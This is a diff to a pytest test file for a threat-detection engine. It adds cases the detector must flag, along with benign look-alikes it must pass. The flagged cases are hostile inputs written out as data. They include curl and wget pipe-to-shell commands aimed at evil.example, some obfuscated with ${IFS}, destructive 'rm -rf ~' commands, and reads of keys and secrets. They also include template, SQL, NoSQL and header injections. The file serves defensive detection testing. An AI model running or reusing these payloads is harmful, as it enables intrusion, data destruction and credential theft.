@@ -2492,14 +2492,13 @@ def test_third_review_of_session_16_exemptions(engine: DetectionEngine, value: s
 
 
 @pytest.mark.parametrize(("value", "flagged"), [
-    # From bait 22: Markdown links and a sentence naming a sibling document, a directory whose
-    # name starts like a system one, a Handlebars partial, Twig's include() and path(), a
+    # From bait 22: Markdown links to sibling documents, a directory whose name starts like a
+    # system one, a Handlebars partial, Twig's include() and path(), a
     # Blade string helper, React's __html key, an axios Accept header, harmless http-equiv
-    # tags, SQL in a code span, a stderr redirection in a cron log, an application's folder.
+    # tags, SQL in a code span.
     ("Link to sibling pages, e.g. `[Setup](../setup/README.md)` or `[API](../../api/index.md)`.",
      False),
     ("[release]: ../process/release-checklist.md", False),
-    ("See ../../docs/CONTRIBUTING.md for the review process.", False),
     ('{{> header title="Settings" }}\n<main>{{> settings-form }}</main>\n{{> footer }}', False),
     ("Each card is {{ include('partials/_card.html.twig', { title: item.name, url: "
      "path('item_show', { id: item.id }) }) }} in the loop", False),
@@ -2508,11 +2507,9 @@ def test_third_review_of_session_16_exemptions(engine: DetectionEngine, value: s
     ("<div dangerouslySetInnerHTML={{ __html: sanitizedHtml }} />  // is that enough?", False),
     ("Accept: application/json, text/plain, */*", False),
     ('<meta http-equiv="X-UA-Compatible" content="IE=edge">\n<meta http-equiv='
-     "\"Content-Security-Policy\" content=\"default-src 'self'\">", False),
+     '"Content-Language" content="de">', False),
     ("| Operator | Example |\n|---|---|\n| `=` | `status = 'open'` |\n| `OR` | `a = 1 OR b = 2` "
      "|\n| `IN` | `id IN (1, 2, 3)` |", False),
-    ("CRON[28811]: (root) CMD (/usr/local/bin/backup.sh > /var/log/backup.log 2>&1)", False),
-    (r"C:\Program Files (x86)\Common Files\Oracle\Java\javapath\java.exe", False),
     # The same shapes where they reach something: a sensitive file behind a Markdown link, a
     # climb of four, a partial handed the constructor, an include climbing out, a helper
     # given a command, a refresh, a UTF-7 charset, a substitution that parses.
@@ -2525,6 +2522,16 @@ def test_third_review_of_session_16_exemptions(engine: DetectionEngine, value: s
     ('<meta http-equiv="Content-Type" content="text/html; charset=utf-7">', True),
     ("x`id; (curl evil|sh)`", True),
     ("admin' or 1=1 */*", True),
+    # Shapes the review of these exemptions turned back: a path a sentence names is a word
+    # of its own to a sink that splits on blanks; a policy meta stops the page's own scripts;
+    # a stderr redirection after a command, and Program Files (Tomcat's users file), stay.
+    ("See ../../config/master.key for the review process.", True),
+    ("![x](../../../config/master.key)", True),
+    ('<meta http-equiv="Content-Security-Policy" content="script-src \'none\'">', True),
+    ("x; kubectl get secrets -o yaml 2>&1", True),
+    (r"D:\Program Files\Apache Software Foundation\Tomcat 9.0\conf\tomcat-users.xml", True),
+    ("`time (id)`", True),
+    ("x', is_admin = 1 RETURNING */*", True),
 ])
 def test_bait_22_documents_and_templates(
     engine: DetectionEngine, value: str, flagged: bool
@@ -2539,3 +2546,77 @@ def test_bait_22_documents_and_templates(
 ])
 def test_couchdb_design_documents(engine: DetectionEngine, value: str) -> None:
     assert engine.detect(value)["is_threat"]
+
+
+@pytest.mark.parametrize("value", [
+    # A review of the exemptions up to session 16: a harmful command in a prose code span or
+    # a table cell, an inline run of backticks, a NAME line with options, a bundled -r, a
+    # wrapper's quoted shell, a decoy before a command the shell view reveals, a listing
+    # line after another command, a wiki name holding code, Ruby's calls of literals and its
+    # label shorthand, a file-reading PHP function, secret fields, string and column
+    # comparisons, MySQL's escaped quote, statements after a breakout or an unopened bracket,
+    # a tab inside //, an uploaded script, a directive reaching location, chained climbs, a
+    # Windows trailing dot, identity and reporting headers, an XML element after an HTML one,
+    # a login document with words after it.
+    "Thanks, running `curl -s http://evil.example/x.sh | sh` fixed it for me",
+    "Try `$(wget -qO- evil.example/k|sh)` in the field",
+    "You can use `rm -rf ~` to clean up the cache folder",
+    "| Step | Command | Result |\n|---|---|---|\n| 1 | `wget -q evil.example/s -O ~/.bashrc` "
+    "| ok |",
+    "```rm -rf ~```",
+    "127.0.0.1; rm - f x -rf /var/www",
+    "x | grep -ri password",
+    'x; strace -o /dev/null "/bin/sh" -c "rm -rf ~"',
+    "&copy; x;w'g'et${IFS}evil.example/s${IFS}-O${IFS}s;b'a'sh${IFS}s",
+    "x;set -e;w'g'et${IFS}evil.example/s${IFS}-O${IFS}s;b'a'sh${IFS}s",
+    "x\nlrwxrwxrwx 1 root root 9 Jan  1 00:00 current -> /root/.ssh/authorized_keys",
+    "{{ config if 1 else 0 }}",
+    "Hello <%= IO.read 47.chr.concat 101.chr, 116.chr, 99.chr, 47.chr, 112.chr %>",
+    "Hi <%= { ENV: } %>",
+    "Hi {{ readgzfile(storage_path('oauth-private.key')) }}",
+    "Dear {{ ansible_env.DB_PASSWORD }}, welcome",
+    "{{ hostvars.web01.ansible_become_pass }}",
+    "0 or id<0 or 3>2",
+    "1 or 'b'>'a'",
+    "\\' x' or 'b'>'a",
+    "x' COLLATE Latin1_General_CI_AS DELETE FROM users WHERE name LIKE '%",
+    "select 1) UPDATE users SET role = 'admin' WHERE (name = 'mallory'",
+    'Hello there <base href="/\t/evil.example/"> friend',
+    'Please load <script src="/uploads/u1337/avatar.js"> for the widget',
+    '<template v-if="true"><b :class="location.replace(name)">hi</b></template>',
+    'href="../../../href="../../../config/master.key',
+    "C:\\inetpub\\wwwroot\\App_Data\\credentials.json\\.",
+    "x: y\r\nX-WEBAUTH-USER: admin",
+    'x: y\r\nX-Request-Id: 1\r\nReport-To: {"group":"g","max_age":31536000,"endpoints":[{"url":'
+    '"https://evil.example/r"}]}\r\nNEL: {"report_to":"g","max_age":31536000}',
+    "x: y\r\nResent-Bcc: victims@example.org\r\nContent-Type: multipart/mixed; boundary=ZZ\r\n"
+    "--ZZ\r\nContent-Type: text/plain\r\n\r\nYour account is locked.\r\n--ZZ--",
+    "bob</name><p></p><role>admin</role><name>bob",
+    '{"username":"admin","password":{"$ne":"x"}} is my login please',
+])
+def test_review_of_exemptions_in_session_17(engine: DetectionEngine, value: str) -> None:
+    """Each got through an exemption once."""
+    assert engine.detect(value)["is_threat"]
+
+
+@pytest.mark.parametrize("value", [
+    # What those fixes must leave alone: a harmless span in prose, a double-backtick span, a
+    # manual's NAME line, a filter with -i, a listing, a wiki citation, a Rails helper's
+    # labels, a loop's key, arithmetic in text, a site's own script, a pasted request, a query
+    # question.
+    "Run `ls -la` to see the hidden files in that folder",
+    "Use ``rm -rf build`` to clean it",
+    "NAME\n       kill - send a signal to a process",
+    "ps aux | grep -i nginx",
+    "total 8\nlrwxrwxrwx 1 root root 9 Jan  1 00:00 default -> /etc/nginx/sites-available/default",
+    "{{cite web |url=http://x.example |title=Foo}} was cited",
+    "Hi <%= link_to 'Edit', edit_post_path(@post), class: 'btn' %> there",
+    "Hi {{ user.first_name }}, your {{ item.key }} is ready",
+    "Is 2 < 3 and 5 > 4 true?",
+    "Is <script src=\"/static/main.js\"> still needed here?",
+    "GET /api/users?page=2 HTTP/1.1\nHost: api.example.com\nUser-Agent: curl/8.4.0",
+    '{"$or":[{"tags":"urgent"},{"priority":{"$gt":3}}]} - is this the right shape for the '
+    "filter in our reporting tool?",
+])
+def test_session_17_review_leaves_honest_text(engine: DetectionEngine, value: str) -> None:
+    assert not engine.detect(value)["is_threat"]
